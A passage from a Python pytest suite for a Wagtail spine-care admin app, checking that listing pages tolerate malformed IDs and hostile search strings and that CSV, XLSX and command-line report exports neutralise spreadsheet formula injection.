            reverse("wagtail_spinecare_admin:review_report"),
            query,
            payload=payload,
        )
        assert response.status_code in (200, 400, 404)


LISTINGS = ("testimonial", "clinician", "treatment", "guideline")


@pytest.mark.parametrize("user", ["superuser", "editor"])
@pytest.mark.parametrize("payload", payloads("id"))
@pytest.mark.parametrize(
    "model, parameter",
    [("testimonial", "site__id__exact")]
    + [(model, parameter) for model in LISTINGS for parameter in ("o", "p")],
)
def test_listings_with_impossible_ids(world, model, parameter, payload, user):
    url = reverse(f"wagtail_spinecare_{model}_modeladmin_index")
    response = send(world.client(user).get, url, {parameter: payload.value}, payload=payload)
    assert response.status_code in (200, 302, 400)


@pytest.mark.parametrize("payload", payloads("text"))
@pytest.mark.parametrize(
    "model, parameter", [("testimonial", "consent")] + [(model, "q") for model in LISTINGS]
)
def test_listings_with_hostile_searches(world, model, parameter, payload):
    if len(payload.value) > 2000:
        pytest.skip("web servers refuse a URL this long before Django sees it")
    url = reverse(f"wagtail_spinecare_{model}_modeladmin_index")
    response = send(world.client("superuser").get, url, {parameter: payload.value}, payload=payload)
    assert response.status_code == 200
    assert payload.value not in response.content.decode() or "<" not in payload.value


# Exports ---------------------------------------------------------------------------------

FORMULAS = [payload for payload in PAYLOADS if payload.name.startswith("formula-")]


@pytest.fixture
def hostile_review_pages(world):
    reviewer = ClinicianFactory(name=FORMULA, profession="Physiotherapist")
    for number, payload in enumerate(FORMULAS):
        ConditionPageFactory(
            parent=world.index,
            title=payload.value,
            slug=f"formula-{number}",
            reviewed_by=reviewer,
        )
    return reviewer


def starts_like_a_formula(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


def test_review_report_csv_cells_cannot_run(world, hostile_review_pages):
    url = reverse("wagtail_spinecare_admin:review_report")
    response = world.client("superuser").get(url, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if starts_like_a_formula(cell)]
    for payload in FORMULAS:
        assert f"'{payload.value}" in cells
    assert f"'{FORMULA}" in cells  # the reviewer


def test_review_report_xlsx_cells_cannot_run(world, hostile_review_pages):
    from openpyxl import load_workbook

    url = reverse("wagtail_spinecare_admin:review_report")
    response = world.client("superuser").get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert not [cell for cell in cells if starts_like_a_formula(cell)]
    for payload in FORMULAS:
        assert f"'{payload.value}" in cells
    assert f"'{FORMULA}" in cells


def test_review_report_command_titles_cannot_run(world, hostile_review_pages):
    out = io.StringIO()
    # The exit status says whether reviews are due; the lines are what is tested.
    with suppress(SystemExit):
        call_command("spinecare_review_report", stdout=out)
    lines = [line for line in out.getvalue().splitlines() if "/formula-" in line]
    titles = [line.split("/  ", 1)[1] for line in lines]
    assert len(titles) == len(FORMULAS)
    assert not [title for title in titles if starts_like_a_formula(title)]


@pytest.mark.parametrize(
    "value, expected",
    [
        *[(payload.value, "'" + payload.value) for payload in FORMULAS],
        ("Facet joint pain", "Facet joint pain"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
